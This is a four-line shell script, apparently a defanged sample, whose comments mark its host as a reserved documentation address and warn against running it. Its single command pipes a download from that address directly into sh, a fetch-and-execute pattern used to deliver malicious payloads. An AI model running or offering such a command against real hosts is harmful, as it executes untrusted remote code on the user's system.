#!/bin/sh
# Hand-written sample, defanged: its hosts are reserved names that resolve nowhere. Never run it.
# 192.0.2.0/24 is reserved for documentation
curl -fsSL http://192.0.2.7/i | sh
